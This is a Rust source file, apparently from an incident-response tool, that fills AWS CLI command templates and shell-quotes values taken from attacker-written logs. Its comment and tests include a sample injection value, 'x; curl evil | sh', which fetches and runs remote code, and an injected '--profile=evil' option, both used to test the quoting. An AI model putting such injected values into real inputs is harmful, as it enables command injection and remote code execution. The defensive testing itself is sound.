//! AWS CLI commands rendered with the case's values. They are printed for the responder to
//! review and run; trailhound never executes them.
//!
//! Values come from logs an attacker wrote (a user name can be `x; curl evil | sh`), so every
//! value is shell-quoted unless it is plainly safe, and control characters are dropped.

use super::variables::Variables;

/// Commands rendered from one template: the cartesian product over multi-valued placeholders,
/// capped so that a variable with hundreds of values does not flood the screen.
pub const MAX_COMMANDS: usize = 25;

#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Rendered {
    pub command: String,
    /// Placeholders without a value, left as `<name>` for the responder to fill in.
    pub missing: Vec<String>,
}

/// The `{name}` placeholders of a template, in order.
pub fn placeholders(template: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let after = &rest[open + 1..];
        let Some(close) = after.find('}') else { break };
        let name = &after[..close];
        if !super::model::is_variable_name(name) {
            // Not a placeholder (inline JSON, say): look again from just after this brace.
            rest = after;
            continue;
        }
        if !out.contains(&name) {
            out.push(name);
        }
        rest = &after[close + 1..];
    }
    out
}

pub fn render(template: &str, vars: &Variables) -> Vec<Rendered> {
    let names = placeholders(template);
    let missing: Vec<String> = names.iter().filter(|n| !vars.is_set(n)).map(|n| n.to_string()).collect();
    // Every combination of values, odometer style.
    let choices: Vec<Vec<String>> = names
        .iter()
        .map(|n| {
            let values: Vec<String> = vars.get(n).iter().map(|v| shell_quote(&v.text)).collect();
            if values.is_empty() { vec![format!("<{n}>")] } else { values }
        })
        .collect();
    let mut out = Vec::new();
    let mut at = vec![0usize; names.len()];
    loop {
        let mut command = template.to_string();
        for (i, name) in names.iter().enumerate() {
            command = command.replace(&format!("{{{name}}}"), &choices[i][at[i]]);
        }
        out.push(Rendered { command, missing: missing.clone() });
        if out.len() >= MAX_COMMANDS {
            break;
        }
        let mut i = names.len();
        loop {
            if i == 0 {
                return out;
            }
            i -= 1;
            at[i] += 1;
            if at[i] < choices[i].len() {
                break;
            }
            at[i] = 0;
        }
    }
    out
}

/// A value as one shell word: bare when it can only be read one way, else single-quoted.
pub fn shell_quote(value: &str) -> String {
    let clean: String = value.chars().filter(|c| !c.is_control()).collect();
    let safe = !clean.is_empty()
        && clean.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:@=+,%".contains(c))
        && !clean.starts_with('-');
    if safe { clean } else { format!("'{}'", clean.replace('\'', "'\\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_every_value_and_marks_missing_ones() {
        let mut vars = Variables::default();
        vars.set("key", &["AKIA1".into(), "AKIA2".into()], "responder");
        let out = render("aws iam update-access-key --user-name {user} --access-key-id {key} --status Inactive", &vars);
        assert_eq!(out.len(), 2);
        assert_eq!(
            out[1].command,
            "aws iam update-access-key --user-name <user> --access-key-id AKIA2 --status Inactive"
        );
        assert_eq!(out[0].missing, vec!["user"]);
    }

    #[test]
    fn attacker_values_cannot_break_out_of_their_word() {
        assert_eq!(shell_quote("ci-deploy"), "ci-deploy");
        assert_eq!(shell_quote("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote("--profile=evil"), "'--profile=evil'");
        assert_eq!(shell_quote("a\u{1b}[2Jb"), "'a[2Jb'");
    }

    #[test]
    fn inline_json_is_not_a_placeholder() {
        let mut vars = Variables::default();
        vars.set("role", &["r".into()], "responder");
        assert_eq!(placeholders(r#"--doc '{"a":{role}}' {role}"#), vec!["role"]);
        assert_eq!(render(r#"x '{"a":1}' {role}"#, &vars)[0].command, r#"x '{"a":1}' r"#);
    }

    #[test]
    fn output_is_capped() {
        let mut vars = Variables::default();
        let many: Vec<String> = (0..100).map(|i| format!("v{i}")).collect();
        vars.set("a", &many, "responder");
        vars.set("b", &many, "responder");
        assert_eq!(render("{a} {b}", &vars).len(), MAX_COMMANDS);
    }
}
